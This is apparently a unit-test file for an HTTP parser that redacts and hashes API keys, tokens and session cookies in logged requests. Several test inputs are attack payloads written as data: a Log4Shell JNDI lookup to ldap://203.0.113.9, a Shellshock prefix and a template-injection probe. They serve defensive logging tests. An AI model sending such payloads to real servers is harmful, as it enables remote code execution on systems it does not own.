// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "core/http/key_hash.hpp"
#include "core/http/request_parser.hpp"

namespace probewall {
namespace {

constexpr HashSecret kSecret{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15};

RequestHead parse(const std::string& headers, const std::string& target = "/") {
  return parse_request_head("GET " + target + " HTTP/1.1\r\n" + headers + "\r\n", kSecret);
}

TEST(KeyHash, IsSipHash24) {
  // Reference vectors of SipHash-2-4 for the key 00..0f: inputs of length 0, 1, 8 and 15.
  std::string text;
  for (char c = 0; c < 15; ++c) text += c;
  EXPECT_EQ(sip_hash("", kSecret), 0x726fdb47dd0e0e31ull);
  EXPECT_EQ(sip_hash(text.substr(0, 1), kSecret), 0x74f839c593dc67fdull);
  EXPECT_EQ(sip_hash(text.substr(0, 8), kSecret), 0x93f5f5799a932462ull);
  EXPECT_EQ(sip_hash(text, kSecret), 0xa129ca6149be45e5ull);
}

TEST(KeyHash, IsSixteenHexDigitsAndEmptyWithoutKey) {
  EXPECT_EQ(key_hash("", kSecret), "");
  EXPECT_EQ(key_hash(std::string_view{"\0", 1}, kSecret), "74f839c593dc67fd");
}

TEST(Keys, AreReplacedByTheirHash) {
  for (const char* header :
       {"Authorization: Bearer sk-1234", "authorization: bearer  sk-1234", "X-Api-Key: sk-1234",
        "api-key: sk-1234", "x-goog-api-key: sk-1234", "Authorization: sk-1234",
        "Authorization: Bearer\r\n sk-1234", "X-Api-Key : sk-1234"}) {
    const RequestHead head = parse(std::string{header} + "\r\n");
    EXPECT_EQ(head.auth_hash, key_hash("sk-1234", kSecret)) << header;
    EXPECT_NE(head.auth, AuthKind::kNone) << header;
    ASSERT_EQ(head.headers.size(), 1u);
    EXPECT_EQ(head.headers[0].value, "") << header;
  }
}

TEST(Keys, LookUpsThatStandInTheirPlaceAreKept) {
  const RequestHead head = parse("Authorization: Bearer ${jndi:ldap://203.0.113.9/a}\r\n");
  EXPECT_EQ(head.auth, AuthKind::kBearer);
  EXPECT_EQ(head.headers[0].value, "Bearer ${jndi:ldap://203.0.113.9/a}");
  EXPECT_EQ(parse("X-Api-Key: ${OPENAI_API_KEY}\r\n").headers[0].value, "");
}

TEST(Keys, ThatNobodyFilledInAreOneKeyAndAWellKnownOne) {
  const RequestHead first = parse("Authorization: Bearer ${OPENAI_API_KEY}\r\n");
  for (const char* header :
       {"Authorization: Bearer ${env:OPENAI_API_KEY}", "X-Api-Key: {{ api_key }}",
        "Authorization: Bearer <your-key>", "api-key: %API_KEY%", "Authorization: Bearer $KEY1"}) {
    const RequestHead head = parse(std::string{header} + "\r\n");
    EXPECT_EQ(head.auth_hash, first.auth_hash) << header;
    EXPECT_TRUE(head.well_known_key) << header;
  }
  for (const char* header :
       {"Authorization: Bearer ${jndi:ldap://x/a}", "Authorization: Bearer sk-<a>", "X-Api-Key: $",
        "Authorization: Bearer $ab/c"}) {
    const RequestHead head = parse(std::string{header} + "\r\n");
    EXPECT_NE(head.auth_hash, first.auth_hash) << header;
    EXPECT_FALSE(head.well_known_key) << header;
  }
}

TEST(Keys, KindSaysBearerOrOther) {
  EXPECT_EQ(parse("Host: x\r\n").auth, AuthKind::kNone);
  EXPECT_EQ(parse("Authorization: Bearer k\r\n").auth, AuthKind::kBearer);
  EXPECT_EQ(parse("Authorization: Basic YTpi\r\n").auth, AuthKind::kOther);
  EXPECT_EQ(parse("x-api-key: a\r\nAuthorization: Bearer k\r\n").auth, AuthKind::kBearer);
}

TEST(Keys, InTheQueryAreRemovedFromTheTarget) {
  const RequestHead head = parse("", "/v1beta/models?a=1&key=AIzaSecret&b=2");
  EXPECT_EQ(head.target, "/v1beta/models?a=1&key=&b=2");
  EXPECT_EQ(head.auth, AuthKind::kOther);
  EXPECT_EQ(head.auth_hash, key_hash("AIzaSecret", kSecret));
  EXPECT_EQ(parse("", "/x?monkey=1").target, "/x?monkey=1");
}

TEST(Keys, OfManualsAreKnownInWhateverHeaderAndCase) {
  for (const char* header :
       {"Authorization: Bearer sk-1234", "Authorization: Bearer EMPTY", "X-Api-Key: ollama",
        "api-key: LM-Studio", "Authorization: Bearer sk-no-key-required",
        "Authorization: Bearer sk-1111111111111111", "Authorization: bearer undefined"}) {
    EXPECT_TRUE(parse(std::string{header} + "\r\n").well_known_key) << header;
  }
  for (const char* header :
       {"Authorization: Bearer sk-12341", "Authorization: Bearer sk-a81f", "Accept: ollama",
        "Authorization: Bearer", "Authorization: Bearer sk-", "X-Api-Key: emptyx"}) {
    EXPECT_FALSE(parse(std::string{header} + "\r\n").well_known_key) << header;
  }
}

TEST(Keys, AreKnownByTheNamesOfTheirHeaders) {
  for (const char* name : {"x-litellm-api-key",
                           "Ocp-Apim-Subscription-Key",
                           "CF-Access-Client-Secret",
                           "x-auth-token",
                           "X-Access-Token",
                           "x-functions-key",
                           "x-portkey-api-key",
                           "Helicone-Auth",
                           "xi-api-key",
                           "X-Runpod-Api-Key",
                           "apikey",
                           "X-ApiKey",
                           "api_key",
                           "X-Our-Own-Api-Key",
                           "Private-Token",
                           "Proxy-Authorization",
                           "X-Authorization",
                           "token",
                           "X-Token",
                           "key"}) {
    const RequestHead head = parse(std::string{name} + ": 7f3a9c1e5b2d8f40\r\n");
    EXPECT_EQ(head.auth, AuthKind::kOther) << name;
    EXPECT_EQ(head.auth_hash, key_hash("7f3a9c1e5b2d8f40", kSecret)) << name;
    EXPECT_FALSE(head.session_key) << name;
    EXPECT_EQ(head.headers[0].value, "") << name;
  }
  for (const char* name :
       {"X-CSRF-Token", "Idempotency-Key", "Sec-WebSocket-Key", "X-Request-Id", "Connection",
        "OpenAI-Organization", "Content-Disposition", "Accept-Encoding", "X-Cache-Key", "Client-Id",
        "X-Author", "X-Data", "Authorizations", "monkey", "-", "k"}) {
    const RequestHead head = parse(std::string{name} + ": 7f3a9c1e5b2d8f40\r\n");
    EXPECT_EQ(head.auth, AuthKind::kNone) << name;
    EXPECT_EQ(head.headers[0].value, "7f3a9c1e5b2d8f40") << name;
  }
}

TEST(Keys, BehindBearerAreTheSameInWhateverHeader) {
  EXPECT_EQ(parse("x-litellm-api-key: Bearer sk-1234\r\n").auth_hash, key_hash("sk-1234", kSecret));
  EXPECT_TRUE(parse("x-litellm-api-key: Bearer sk-1234\r\n").well_known_key);
}

TEST(Keys, WhatAProxyAddsChangesByItself) {
  for (const char* name : {"Cf-Access-Jwt-Assertion", "X-Forwarded-Access-Token",
                           "CF-Access-Client-Id", "x-amzn-oidc-data"}) {
    const RequestHead head = parse(std::string{name} + ": abcdefghijk\r\n");
    EXPECT_EQ(head.auth, AuthKind::kOther) << name;
    EXPECT_TRUE(head.session_key) << name;
    EXPECT_EQ(head.headers[0].value, "") << name;
  }
}

TEST(Keys, OfTheSendersOwnSayMoreThanSessions) {
  const auto own = key_hash("7f3a9c1e5b2d8f40", kSecret);
  for (const char* headers :
       {"CF-Access-Client-Id: a.access\r\nCF-Access-Client-Secret: 7f3a9c1e5b2d8f40\r\n",
        "CF-Access-Client-Secret: 7f3a9c1e5b2d8f40\r\nCF-Access-Client-Id: a.access\r\n",
        "Cookie: token=abcdefghijk\r\nx-api-key: 7f3a9c1e5b2d8f40\r\n",
        "x-api-key: 7f3a9c1e5b2d8f40\r\nCookie: token=abcdefghijk\r\n"}) {
    const RequestHead head = parse(headers);
    EXPECT_EQ(head.auth_hash, own) << headers;
    EXPECT_FALSE(head.session_key) << headers;
  }
}

TEST(Keys, InCookiesAreKeysAndNoCookieIsReadable) {
  for (const char* cookie :
       {"token=eyJhbGciOiJIUzI1NiJ9.e30.x", "a=1; session=abcdefghijk; b=2",
        "connect.sid=s%3Aabcdefghijk", "owui-session=abcdefghijk", "_oauth2_proxy=abcdefghijk",
        "authelia_session=abcdefghijk", "CF_Authorization=abcdefghijk", "sid=abcdefghijk",
        "__Secure-next-auth.session-token=abcdefghijk", "sb-access-token=abcdefghijk",
        "PHPSESSID=abcdefghijk", "my_jwt=abcdefghijk"}) {
    const RequestHead head = parse("Cookie: " + std::string{cookie} + "\r\n");
    EXPECT_EQ(head.auth, AuthKind::kOther) << cookie;
    EXPECT_TRUE(head.session_key) << cookie;
    EXPECT_TRUE(head.has_header("cookie"));
    EXPECT_EQ(head.header("cookie"), "") << cookie;
  }
  for (const char* cookie : {"theme=dark-and-long", "csrftoken=abcdefghijk", "_xsrf=abcdefghijk",
                             "_ga=GA1.1.123456789", "__cf_bm=abcdefghijk", "session=1",
                             "token=null", "token=", "token", "", "_hjSessionUser_1=abcdefghijk",
                             "comment_author_a=abcdefghijk", ";;=;", "side=abcdefghijk"}) {
    const RequestHead head = parse("Cookie: " + std::string{cookie} + "\r\n");
    EXPECT_EQ(head.auth, AuthKind::kNone) << cookie;
    EXPECT_TRUE(head.has_header("cookie"));
    EXPECT_EQ(head.header("cookie"), "") << cookie;
  }
}

TEST(Keys, ACookiesTokenSaysMoreThanItsSession) {
  const RequestHead head = parse("Cookie: owui-session=abcdefghijk; token=0123456789\r\n");
  EXPECT_EQ(head.auth_hash, key_hash("0123456789", kSecret));
}

TEST(Keys, ProgramsInCookiesAreKeptWithoutTheKeysBesideThem) {
  const RequestHead head =
      parse("Cookie: token=abcdefghijk; x=${jndi:ldap://203.0.113.9/a}; y=() { :; }\r\n");
  EXPECT_EQ(head.header("cookie"), "x=${jndi:ldap://203.0.113.9/a}; y=() { :");
  EXPECT_EQ(head.auth, AuthKind::kOther);
  const RequestHead folded = parse("Cookie: a=1;\r\n x={{7*7}}\r\n");
  EXPECT_EQ(folded.header("cookie"), "x={{7*7}}");
}

TEST(Keys, OfAwsAreTheSameUnderEverySignature) {
  const auto signed_with = [](const std::string& key, const std::string& signature) {
    return parse("Authorization: AWS4-HMAC-SHA256 Credential=" + key +
                 "/20260101/eu/bedrock/aws4_request, SignedHeaders=host, Signature=" + signature +
                 "\r\n");
  };
  EXPECT_EQ(signed_with("AKIAA", "1f").auth_hash, signed_with("AKIAA", "2e").auth_hash);
  EXPECT_NE(signed_with("AKIAA", "1f").auth_hash, signed_with("AKIAB", "1f").auth_hash);
  EXPECT_EQ(signed_with("AKIAA", "1f").headers[0].value, "");
}

TEST(Keys, OfTheQueryAreFoundUnderEncodedNames) {
  for (const char* name : {"%6bey", "k%65y", "%61pi_key", "subscription-key", "access_token",
                           "auth_token", "token", "Token", "X-Amz-Signature"}) {
    const RequestHead head = parse("", "/v1/models?a=1&" + std::string{name} + "=AIzaSecret");
    EXPECT_EQ(head.target, "/v1/models?a=1&" + std::string{name} + "=") << name;
    EXPECT_EQ(head.auth_hash, key_hash("AIzaSecret", kSecret)) << name;
  }
  EXPECT_EQ(parse("", "/x?max_tokens=1&%6bex=2&tokenizer=a").target,
            "/x?max_tokens=1&%6bex=2&tokenizer=a");
}

}  // namespace
}  // namespace probewall
